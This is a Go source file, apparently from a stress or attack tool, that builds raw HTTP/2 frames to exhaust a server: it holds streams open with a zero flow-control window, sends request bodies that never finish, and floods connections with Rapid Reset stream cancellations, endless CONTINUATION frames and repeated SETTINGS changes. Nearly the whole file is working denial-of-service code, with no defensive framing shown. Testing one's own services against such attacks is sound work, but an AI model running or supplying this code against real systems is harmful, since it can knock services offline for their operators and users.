package main

import (
	"bytes"
	"fmt"
	"io"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streams is how many requests an attacker has in progress on an HTTP/2 connection, whatever the
// service allows.
const streams = 100

// batch collects frames that are sent at once.
type batch struct {
	text   bytes.Buffer
	framer *http2.Framer
	host   string
}

// newBatch returns a batch that begins with the preface of a connection and its settings.
func newBatch(host string, settings ...http2.Setting) *batch {
	b := &batch{host: host}
	b.text.WriteString(http2.ClientPreface)
	b.framer = http2.NewFramer(&b.text, nil)
	b.framer.AllowIllegalWrites = true
	_ = b.framer.WriteSettings(settings...)
	return b
}

// open adds a request. Its fields are literals, so that it does not depend on what was sent before.
func (b *batch) open(stream uint32, method, path string, ends bool, more ...hpack.HeaderField) {
	_ = b.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, EndStream: ends,
		EndHeaders: true, BlockFragment: b.fields(method, path, more...)})
}

func (b *batch) fields(method, path string, more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSizeLimit(0)
	for _, field := range append([]hpack.HeaderField{{Name: ":method", Value: method},
		{Name: ":scheme", Value: "http"}, {Name: ":path", Value: path},
		{Name: ":authority", Value: b.host}}, more...) {
		_ = encoder.WriteField(field)
	}
	return block.Bytes()
}

// take returns the frames and empties the batch.
func (b *batch) take() []byte {
	text := bytes.Clone(b.text.Bytes())
	b.text.Reset()
	return text
}

// zeroWindow opens requests for a large response on every connection and never lets it be sent.
func zeroWindow(c *crew) {
	b := newBatch(c.Address, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for n := range uint32(streams) {
		b.open(2*n+1, "GET", "/openapi.json", true)
	}
	c.holdHTTP2(b.take())
}

// endlessPosts opens requests on every connection, with bodies that never end.
func endlessPosts(c *crew) {
	b := newBatch(c.Address)
	for n := range uint32(streams) {
		b.open(2*n+1, "POST", "/v1/sessions/anonymous", false,
			hpack.HeaderField{Name: "content-type", Value: "application/json"},
			hpack.HeaderField{Name: "content-length", Value: "10000"})
		_ = b.framer.WriteData(2*n+1, false, []byte("{"))
	}
	c.holdHTTP2(b.take())
}

// holdHTTP2 sends a text on every connection, and reads until the service closes it.
func (c *crew) holdHTTP2(text []byte) {
	c.hold(false, func(conn conn, _ int, settled func()) {
		if _, err := conn.Write(text); err != nil {
			return
		}
		c.sent.Add(streams)
		settled()
		_, _ = io.Copy(io.Discard, conn)
	})
}

// perBatch is how many attacks a flood sends at once.
const perBatch = 200

// rapidReset opens requests and resets each at once.
func rapidReset(c *crew) {
	c.flood(func(conn conn, _ int) {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		b := newBatch(c.Address)
		for stream := uint32(1); stream < 1<<31-2*perBatch; {
			for range perBatch {
				b.open(stream, "GET", "/openapi.json", true)
				_ = b.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
				stream += 2
			}
			if _, err := conn.Write(b.take()); err != nil {
				return
			}
			c.sent.Add(perBatch)
		}
	})
}

// continuations begins a request on every connection and never ends its headers: with fields on
// every other connection, with empty frames on the rest.
func continuations(c *crew) {
	c.flood(func(conn conn, n int) {
		go func() { _, _ = io.Copy(io.Discard, conn) }()
		b := newBatch(c.Address)
		_ = b.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndStream: true,
			BlockFragment: b.fields("GET", "/v1/health")})
		if _, err := conn.Write(b.take()); err != nil {
			return
		}
		var fragment []byte
		if n%2 == 0 {
			fields := strings.Repeat(fmt.Sprintf("\x00\x01x\x64%s", strings.Repeat("a", 100)), 10)
			fragment = []byte(fields)
		}
		for range perBatch {
			_ = b.framer.WriteContinuation(1, false, fragment)
		}
		for text := b.take(); ; {
			if _, err := conn.Write(text); err != nil {
				return
			}
			c.sent.Add(perBatch)
		}
	})
}

// settings changes the settings on every connection without end; every other attacker does not read
// the acknowledgements.
func settings(c *crew) {
	c.flood(func(conn conn, n int) {
		if n%2 == 0 {
			go func() { _, _ = io.Copy(io.Discard, conn) }()
		}
		b := newBatch(c.Address)
		if _, err := conn.Write(b.take()); err != nil {
			return
		}
		for i := range uint32(perBatch) {
			_ = b.framer.WriteSettings(
				http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 + i%2})
		}
		for text := b.take(); ; {
			if _, err := conn.Write(text); err != nil {
				return
			}
			c.sent.Add(perBatch)
		}
	})
}
